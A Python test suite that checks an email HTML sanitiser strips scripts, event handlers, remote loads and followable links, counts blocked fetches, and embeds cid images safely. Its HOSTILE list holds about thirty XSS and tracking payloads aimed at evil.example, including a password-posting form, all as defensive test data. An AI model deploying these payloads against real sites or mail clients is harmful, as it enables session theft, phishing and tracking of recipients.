"""Whatever an email's HTML says, what is left of it can neither run nor reach anybody."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onerouter_sandbox.inbox.rendering import picture, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/1 2x'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<a href='https://evil.example/' ping='https://evil.example/ping'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>' src='https://evil.example'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x'>",
    "<link rel=preconnect href='https://evil.example'><link rel=dns-prefetch href='//evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password><button formaction='https://evil.example'>x</button></form>",
    "<body onload=alert(1) background='https://evil.example/x.png'>",
    "<video poster='https://evil.example/p'><source src='https://evil.example/v'></video>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<style></style><script>alert(1)</script></style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<textarea><script>alert(1)</script>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<table background='//evil.example/x'><tr><td>x",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<plaintext><script>alert(1)</script>",
]
_ALLOWED_SRC = re.compile(r"data:image/(png|jpe?g|gif|webp|avif|bmp|x-icon)[;,]", re.IGNORECASE)


class Reader(HTMLParser):
    """What a browser would find: elements outside the list and attributes that do something."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in (
            "script",
            "link",
            "meta",
            "base",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "svg",
            "math",
            "body",
        ):
            self.wrong.append(tag)
        for name, value in attrs:
            acts = name.startswith("on") or name in ("href", "srcset", "background", "poster", "action", "ping", "data")
            if acts or (name == "src" and not _ALLOWED_SRC.match(value or "")):
                self.wrong.append(f"{tag} {name}={value}")


def wrong_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(render(html, {}).html)
    reader.close()
    return reader.wrong


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_acts_is_left(html: str) -> None:
    assert wrong_in(f"<p>before</p>{html}<p>after</p>") == []


@given(st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(alphabet="<>/\"'=! -ab", max_size=12)), max_size=6))
def test_nor_of_any_of_them_together(parts: list[str]) -> None:
    assert wrong_in("".join(parts)) == []


def test_what_only_shows_something_stays() -> None:
    head = "<head><title>T</title><style>.a{color:red}</style></head>"
    shown = render(f"<html>{head}<body bgcolor='#eee'><p class=a>1 &lt; 2</p></body></html>", {}).html
    assert shown == '<style>.a{color:red}</style><div bgcolor="#eee"><p class="a">1 &lt; 2</p></div>'


def test_what_is_left_open_is_closed() -> None:
    assert render("<table><tr><td><b>x", {}).html == "<table><tr><td><b>x</b></td></tr></table>"


class TestLinks:
    def test_are_told_and_cannot_be_followed_within(self) -> None:
        made = render(
            "<a href='https://acme.example/x?a=1&amp;b=2'>Go <b>there</b></a><a href='file:///etc'>no</a>", {}
        )
        assert [(each.text, each.url) for each in made.links] == [("Go there", "https://acme.example/x?a=1&b=2")]
        assert 'title="https://acme.example/x?a=1&amp;b=2"' in made.html
        assert "href" not in made.html


class TestBlocked:
    @pytest.mark.parametrize(
        ("html", "count"),
        [
            ("<img src='https://a.example/x'><img src='//a.example/y'>", 2),
            ("<link rel=preconnect href='https://a.example'>", 1),
            ("<style>@import url(https://a.example/x); p{background:url('//a.example')}</style>", 3),
            ("<p style='background:url(https://a.example/x)'>x</p>", 1),
            ("<a href='https://a.example'>x</a><img src='cid:a'><img src='data:image/png;base64,AA=='>", 0),
        ],
    )
    def test_counts_what_would_have_been_fetched(self, html: str, count: int) -> None:
        assert render(html, {}).blocked == count


class TestPicture:
    def test_is_put_in_where_its_content_id_stands(self) -> None:
        address = picture("image/PNG; name=x", "iVBORw0K\r\nGgo=")
        assert address == "data:image/png;base64,iVBORw0KGgo="
        assert f'src="{address}"' in render("<img src='CID:logo%40acme'>", {"logo@acme": address}).html

    @pytest.mark.parametrize("content_type", ["text/html", "image/svg+xml", "image/png,<script>"])
    def test_is_no_document(self, content_type: str) -> None:
        assert picture(content_type, "AAAA") is None
